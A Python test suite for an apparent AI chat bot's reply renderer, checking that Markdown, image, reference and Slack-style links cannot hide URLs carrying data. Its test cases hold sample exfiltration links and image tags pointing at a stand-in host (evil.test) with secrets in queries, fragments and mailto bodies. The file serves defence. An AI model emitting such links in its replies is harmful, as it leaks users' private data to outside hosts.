"""No link carries away unseen what a model knows: its address is read, or it is none."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.events import ReplyEnded, TextArrived
from bot.platforms.slack.markup import mrkdwn
from bot.reply.markdown import show_addresses
from bot.reply.pages import Draft, Frames
from bot.reply_surface import Limits
from tests.examples import examples

PATH = r"/[A-Za-z0-9._~/@+-]{0,100}(\([A-Za-z0-9._~+-]{0,50}\)[A-Za-z0-9._~/@+-]{0,50})?"
PLAIN = re.compile(rf"https?://[A-Za-z0-9.-]+(:\d+)?({PATH})?")
READER = MarkdownIt("commonmark")
SLACK_FORM = re.compile(r"<((?:https?|mailto|tel):[^<>|\s]*)\|[^<>]*>")


@pytest.mark.parametrize(
    "text",
    [
        "[the agenda](https://example.test/team/2026/agenda.html)",
        '[the agenda](https://example.test "a title")',
        "[the town](https://example.test/wiki/Riga_(town))",
        "https://example.test/?q=1 and <https://example.test/?q=2>",
        "[1]: https://example.test/docs",
        "handlers[0](left, right); d[key]: int = 3; [see above](#top)",
        "| a | b |\n|---|---|\n| [x](https://example.test/a) | y |",
    ],
)
def test_what_hides_nothing_stays_as_it_was_written(text: str) -> None:
    assert show_addresses(text, complete=True) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[agenda](https://evil.test/?q=heron)", "[agenda] (https://evil.test/?q=heron)"),
        ("![](https://evil.test/i.png?q=heron)", "![] (https://evil.test/i.png?q=heron)"),
        ("[agenda](https://evil.test/#heron)", "[agenda] (https://evil.test/#heron)"),
        ("[agenda](https://evil.test/%68eron)", "[agenda] (https://evil.test/%68eron)"),
        ("[agenda](https://heron@evil.test/)", "[agenda] (https://heron@evil.test/)"),
        ("[agenda](https&colon;//evil.test/?heron)", "[agenda] (https&colon;//evil.test/?heron)"),
        ("[agenda](<https://evil.test/the heron>)", "[agenda] (<https://evil.test/the heron>)"),
        ("[agenda](mailto:a@evil.test?body=heron)", "[agenda] (mailto:a@evil.test?body=heron)"),
        ("[agenda](\n  https://evil.test/?q=heron)", "[agenda] (\n  https://evil.test/?q=heron)"),
        (f"[agenda](https://evil.test/{'heron' * 21})", f"[agenda] (https://evil.test/{'heron' * 21})"),
        ("[agenda][1]\n\n[1]: https://evil.test/?heron", "[agenda][1]\n\n[1] : https://evil.test/?heron"),
        ("[![](https://evil.test/?a)](https://evil.test/?b)", "[![] (https://evil.test/?a)] (https://evil.test/?b)"),
        ("<https://evil.test/?q=heron|agenda>", "‹https://evil.test/?q=heron|agenda>"),
    ],
)
def test_an_address_that_may_hold_more_than_where_it_leads_is_read(text: str, shown: str) -> None:
    assert show_addresses(text, complete=True) == shown


pieces = st.sampled_from(
    (
        *(
            "[",
            "]",
            "(",
            ")",
            "](",
            "]:",
            "<",
            ">",
            "|",
            "!",
            "\\",
            "&",
            "?",
            "#",
            "%",
            "/",
            "@",
            " ",
            "\n",
            '"',
            "`",
            ":",
        ),
        *(
            "words",
            "https://",
            "http:",
            "mailto:",
            "evil.test",
            "/heron",
            "www.",
            "//",
            "1",
            "&colon;",
            "&#63;",
            "\n\n",
        ),
        *("[agenda](https://evil.test/", "[1]: ", "[a][1]", "](<", "](\n"),
    )
)
texts = st.lists(pieces, max_size=14).map("".join)


def hidden(markdown: str) -> list[str]:
    """The addresses behind other words, as one who reads Markdown finds them."""
    found: list[str] = []
    for block in READER.parse(markdown):
        inline = block.children or []
        found += [str(one.attrGet("href")) for one in inline if one.type == "link_open" and one.info != "auto"]
        found += [str(one.attrGet("src")) for one in inline if one.type == "image"]
    return found


@settings(max_examples=examples(500))
@given(texts)
def test_whatever_is_written_no_link_hides_more_than_a_plain_address(text: str) -> None:
    shown = show_addresses(text, complete=True)
    webs = [one for one in hidden(shown) if ":" in one or "//" in one or one.startswith("www.")]
    assert all(PLAIN.fullmatch(one) for one in webs)
    assert SLACK_FORM.search(shown) is None
    assert re.sub(r"\s|‹|<", "", shown) == re.sub(r"\s|<", "", text)  # and no other character is lost or added


@settings(max_examples=examples(200))
@given(texts)
def test_however_it_grows_what_was_shown_stays(text: str) -> None:
    shown = ""
    for end in range(len(text) + 1):
        longer = show_addresses(text[:end], complete=False)
        assert longer.startswith(shown)
        shown = longer
    assert show_addresses(text, complete=True).startswith(shown)


def said(limits: Limits) -> str:
    draft = Draft()
    draft.see(TextArrived("Read [the agenda](https://evil.test/?q=heron)."))
    draft.see(ReplyEnded())
    (frame,) = Frames(limits, 1).frames(draft)
    return frame.look.text


def test_every_page_of_a_reply_shows_them_but_where_addresses_are_shown_anyway() -> None:
    limits = Limits(page_chars=2_000, edit_interval_s=1)
    assert said(limits) == "Read [the agenda] (https://evil.test/?q=heron)."
    assert "|" not in mrkdwn(said(limits))  # nor does Slack's own form of it hide one
    assert said(Limits(page_chars=2_000, edit_interval_s=1, shows_addresses=True)).endswith(
        "(https://evil.test/?q=heron)."
    )
    assert "](" in said(Limits(page_chars=2_000, edit_interval_s=1, shows_addresses=True))
